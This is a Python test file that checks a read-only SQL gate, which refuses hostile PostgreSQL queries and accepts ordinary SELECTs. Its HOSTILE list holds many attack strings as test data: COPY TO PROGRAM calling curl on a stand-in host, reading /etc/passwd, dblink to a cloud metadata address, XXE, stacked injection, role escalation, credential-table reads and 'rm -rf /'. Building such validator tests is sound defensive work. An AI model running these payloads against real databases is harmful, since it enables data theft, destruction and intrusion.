"""What a query may be: hostile ones are refused before any server sees them, ordinary ones come through whole."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bailiwick.kernel.reasons import Reason, ReasonCode
from bailiwick.kernel.resilience import CallFailed, ErrorClass
from bailiwick_skills.databases.reading import LONGEST, only_reads

HOSTILE = [
    # other statements
    "INSERT INTO orders VALUES (1)",
    "UPDATE orders SET total = 0",
    "DELETE FROM orders",
    "TRUNCATE orders",
    "MERGE INTO orders USING x ON true WHEN MATCHED THEN DELETE",
    "DROP TABLE orders",
    "CREATE TABLE x AS SELECT 1",
    "ALTER ROLE reader SUPERUSER",
    "GRANT ALL ON orders TO public",
    "COPY orders TO PROGRAM 'curl evil.example'",
    "COPY orders FROM '/etc/passwd'",
    "DO $$ BEGIN DELETE FROM orders; END $$",
    "CALL wipe()",
    "SET ROLE postgres",
    "RESET ROLE",
    "SET default_transaction_read_only = off",
    "BEGIN READ WRITE",
    "COMMIT",
    "LISTEN x",
    "NOTIFY x",
    "LOCK TABLE orders",
    "VACUUM",
    "EXPLAIN ANALYZE DELETE FROM orders",
    "EXPLAIN ANALYZE SELECT 1",
    "PREPARE x AS DELETE FROM orders",
    "EXECUTE x",
    "DECLARE c CURSOR FOR SELECT 1",
    "FETCH ALL FROM answer",
    "LOAD 'evil'",
    "SHOW data_directory",
    "REFRESH MATERIALIZED VIEW x",
    # several at once
    "SELECT 1; DELETE FROM orders",
    "SELECT 1; SELECT 2",
    "; DELETE FROM orders",
    "SELECT 1) AS asked LIMIT 0; DELETE FROM orders; --",
    "SELECT 1 /* ; */ ; COMMIT; DROP TABLE orders",
    "COMMIT; SELECT 1",
    # what changes data within a query
    "WITH gone AS (DELETE FROM orders RETURNING *) SELECT * FROM gone",
    "WITH a AS (SELECT 1), b AS (INSERT INTO orders VALUES (1) RETURNING id) SELECT * FROM a, b",
    "WITH a AS (UPDATE orders SET total = 1 RETURNING 1) SELECT * FROM a",
    "SELECT * INTO copied FROM orders",
    "SELECT 1 INTO UNLOGGED copied",
    "SELECT * FROM orders FOR UPDATE",
    "SELECT * FROM orders FOR NO KEY UPDATE SKIP LOCKED",
    "SELECT * FROM (SELECT * FROM orders FOR SHARE) AS x",
    # functions that write, wait, read files, reach out or carry out texts
    "SELECT pg_sleep(60)",
    "SELECT PG_SLEEP(60)",
    'SELECT "pg_sleep"(60)',
    "SELECT pg_catalog.pg_sleep(60)",
    'SELECT "pg_catalog"."pg_sleep"(60)',
    "SELECT * FROM pg_sleep(60)",
    "SELECT * FROM pg_catalog.pg_sleep(60)",
    "SELECT 1 FROM orders WHERE pg_sleep(60) IS NULL",
    "SELECT 1 ORDER BY pg_sleep(60)",
    "SELECT count(*) FILTER (WHERE pg_sleep(9) IS NULL) FROM orders",
    "SELECT sum(1) OVER (ORDER BY pg_sleep(9)) FROM orders",
    "SELECT 1 LIMIT (SELECT pg_backend_pid())",
    "VALUES (pg_sleep(60))",
    "SELECT CASE WHEN pg_sleep(60) IS NULL THEN 1 END",
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT pg_read_binary_file('/etc/passwd')",
    "SELECT * FROM pg_ls_dir('/')",
    "SELECT * FROM pg_stat_file('/etc/passwd')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT lo_export(1, '/tmp/x')",
    "SELECT lo_from_bytea(0, 'x')",
    "SELECT * FROM dblink('host=169.254.169.254', 'select 1') AS t(a int)",
    "SELECT dblink_exec('host=x', 'drop table y')",
    "SELECT dblink_connect('host=x')",
    "SELECT query_to_xml('delete from orders', true, true, '')",
    "SELECT table_to_xml('orders', true, true, '')",
    "SELECT cursor_to_xml('answer', 1, true, true, '')",
    "SELECT ts_stat('delete from orders')",
    "SELECT set_config('transaction_read_only', 'off', true)",
    "SELECT current_setting('data_directory')",
    "SELECT nextval('orders_id_seq')",
    "SELECT setval('orders_id_seq', 1)",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_notify('x', 'y')",
    "SELECT pg_terminate_backend(1)",
    "SELECT pg_cancel_backend(1)",
    "SELECT pg_reload_conf()",
    "SELECT pg_rotate_logfile()",
    "SELECT pg_logical_emit_message(true, 'a', 'b')",
    "SELECT txid_current()",
    "SELECT pg_export_snapshot()",
    "SELECT current_user",
    "SELECT session_user",
    "SELECT version()",
    "SELECT inet_server_addr()",
    "SELECT wipe()",
    "SELECT public.wipe()",
    "SELECT shop.lower('x')",
    "SELECT (shop.wipe()).*",
    "SELECT * FROM shop.wipe()",
    "SELECT * FROM shop.now()",
    "SELECT * FROM shop.generate_series(1, 2)",
    "SELECT (1.0::float8).pg_sleep",
    "SELECT ('/etc/passwd'::text).pg_read_file",
    "SELECT (orders).wipe_of FROM orders",
    "SELECT (total).pg_sleep FROM orders",
    "SELECT * FROM ROWS FROM (pg_ls_dir('/')) AS x",
    "SELECT * FROM LATERAL pg_ls_dir('/') AS x",
    "SELECT xmlparse(DOCUMENT '<!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>')",
    "SELECT * FROM XMLTABLE('/a' PASSING x COLUMNS a int)",
    "SELECT repeat('x', 1000000000)",
    "SELECT a OPERATOR(public.!!) b FROM orders",
    # the server itself
    "SELECT * FROM pg_shadow",
    "SELECT * FROM pg_catalog.pg_authid",
    'SELECT * FROM "pg_catalog"."pg_user_mapping"',
    "SELECT * FROM PG_CATALOG.PG_SETTINGS",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM pg_stat_activity",
    "TABLE pg_authid",
    # what could be read in several ways, and what is none
    "SELECT e'\\'; DELETE FROM orders; --'",
    "SELECT U&'\\0027'",
    "SELECT $1",
    "SELECT :name",
    "SELECT %s",
    "SELECT ?",
    "\\copy orders to x",
    "\\! rm -rf /",
    "",
    "   ",
    "-- nothing",
    ";",
    "SELECT",
    "SELECT " + "(" * 200 + "1" + ")" * 200,
    "SELECT 1" + " + 1" * 5_000,
    "SELECT '" + "x" * LONGEST + "'",
    "SELECT 'open",
    "SELECT \x00",
]

ORDINARY = [
    "SELECT 1",
    "select * from orders;",
    "SELECT id, total FROM orders WHERE name = 'O''Brien' AND total BETWEEN 1 AND 9"
    " ORDER BY total DESC NULLS LAST LIMIT 5",
    "SELECT c.name, count(*) AS n, sum(o.total) FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY 1"
    " HAVING count(*) > 2",
    "SELECT date_trunc('month', created_at)::date AS month, round(avg(total), 2) FROM orders GROUP BY 1",
    "WITH RECURSIVE n AS (SELECT 1 AS i UNION ALL SELECT i + 1 FROM n WHERE i < 5) SELECT i FROM n",
    "SELECT name FROM a UNION SELECT name FROM b EXCEPT SELECT name FROM c",
    "SELECT DISTINCT ON (customer_id) * FROM orders ORDER BY customer_id, created_at DESC",
    "SELECT total, rank() OVER (PARTITION BY customer_id ORDER BY total DESC ROWS BETWEEN 1 PRECEDING AND CURRENT ROW)"
    " FROM orders",
    "SELECT count(*) FILTER (WHERE paid), string_agg(name, ', ' ORDER BY name) FROM orders",
    "SELECT * FROM orders WHERE created_at > now() - interval '7 days' AND extract(dow FROM created_at) = 1",
    "SELECT data->>'a', data#>>'{a,b}', tags[1] FROM orders WHERE tags && ARRAY['x'] AND data ? 'a' IS NOT NULL",
    "SELECT * FROM orders WHERE name ILIKE '%ana%' OR name ~* '^a' OR (a, b) IN (SELECT 1, 2)",
    "SELECT * FROM generate_series(1, 10) AS g(n)",
    "SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY total) FROM orders",
    "SELECT coalesce(a, b), nullif(a, b), greatest(1, 2), CASE WHEN a THEN 1 ELSE 2 END FROM t",
    "SELECT upper(trim(name)), length(name), substring(name FROM 1 FOR 3), to_char(d, 'YYYY-MM') FROM t",
    "SELECT a FROM t GROUP BY GROUPING SETS ((a), ())",
    'SELECT "Total Amount" FROM "Orders" AS o, LATERAL (SELECT 1 AS one) AS l',
    "SELECT EXISTS(SELECT 1 FROM t WHERE t.a IS DISTINCT FROM 2), 'delete from orders; pg_sleep(1)'",
    "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS v(n, t)",
    "(SELECT 1)",
    "SELECT 1 -- pg_sleep(60)",
]


def refusal(query: str) -> CallFailed:
    with pytest.raises(CallFailed) as refused:
        only_reads(query)
    return refused.value


@pytest.mark.parametrize("query", HOSTILE, ids=lambda query: query[:60])
def test_a_hostile_query_is_refused_and_the_reason_says_why(query: str):
    refused = refusal(query)
    assert refused.error_class is ErrorClass.VALIDATION
    assert isinstance(refused.said, Reason)
    assert refused.said.code.startswith("sql-")
    assert refused.said.text("es")


@pytest.mark.parametrize("query", ORDINARY, ids=lambda query: query[:60])
def test_an_ordinary_query_is_carried_out_as_it_was_read(query: str):
    written = only_reads(query)
    assert only_reads(written.text) == written
    assert "--" not in written.text


def test_the_reason_names_what_is_not_allowed():
    assert refusal("SELECT pg_sleep(1)").said == Reason.of(ReasonCode.SQL_FUNCTION, name="pg_sleep")
    assert refusal("DELETE FROM orders").said == Reason.of(ReasonCode.SQL_READS_ONLY, what="DELETE")
    assert refusal("SELECT 1; SELECT 2").said == Reason.of(ReasonCode.SQL_ONE_QUERY)
    assert refusal("SELECT * FROM pg_shadow").said == Reason.of(ReasonCode.SQL_SYSTEM_TABLE, name="pg_shadow")


WORDS = st.sampled_from(
    "select from where with as union delete insert update into returning for ( ) , ; * 1 'x' \"a\" orders pg_sleep"
    " pg_read_file dblink set_config lower count $$ -- /* */ :: . = [ ] e'\\' lateral values table null over order by"
    " limit copy execute do".split()
)


@settings(max_examples=60)
@given(st.lists(WORDS, max_size=25).map(" ".join))
def test_of_whatever_words_a_query_is_made_it_is_refused_or_reads_only(query: str):
    try:
        written = only_reads(query).text.lower()
    except CallFailed as refused:
        assert refused.error_class is ErrorClass.VALIDATION  # noqa: PT017  (both outcomes are right)
    else:
        assert written.startswith(("select", "with", "(", "values"))
        assert "pg_sleep (" not in written
        assert not any(f"{name}(" in written for name in ("pg_sleep", "pg_read_file", "dblink", "set_config"))


@settings(max_examples=40)
@given(st.text(max_size=200))
def test_any_text_is_refused_or_read_without_another_error(text: str):
    try:
        only_reads(text)
    except CallFailed as refused:
        assert refused.error_class is ErrorClass.VALIDATION  # noqa: PT017  (both outcomes are right)
